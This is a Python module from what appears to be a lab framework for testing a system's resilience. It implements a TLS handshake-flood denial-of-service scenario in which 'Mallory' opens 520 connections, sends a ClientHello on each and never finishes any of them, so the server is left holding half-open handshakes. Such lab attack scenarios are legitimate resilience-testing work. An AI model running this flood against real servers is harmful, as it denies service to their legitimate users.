"""TLS handshakes that nobody finishes.

python -m attacks.handshake_flood --stage 4
"""

import contextlib

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import client_hello, many

NUMBER = 520


@attack(
    position="outsider",
    family="dos",
    goals=(
        Goal(
            "places",
            "take every place, with handshakes that are begun",
            "starved",
            "---HH",
            ablation="limits=off",
            absent="there is no TLS here",
        ),
    ),
)
async def handshake_flood(foothold: Foothold, goal: Goal) -> Claim:
    """A TLS handshake costs the server more than the client: it signs before it knows who asks. Mallory sends the first
    message of a handshake, the same two hundred bytes each time, and never answers what comes back. Each server that
    has sent its certificate now waits for the rest, and a connection that is not finished is one that no list of
    members shows.
    """
    await foothold.until("talking")
    hello = client_hello()
    held = await many(foothold, NUMBER)
    for sock in held:
        with contextlib.suppress(OSError):  # that one was cut
            sock.send(hello)
    foothold.note(f"{len(held)} handshakes were begun, and are not finished")
    await foothold.until("over")
    for sock in held:
        sock.close()
    return Claim(did=f"began {len(held)} handshakes")


if __name__ == "__main__":
    from lab.attack_main import main

    main("handshake_flood")
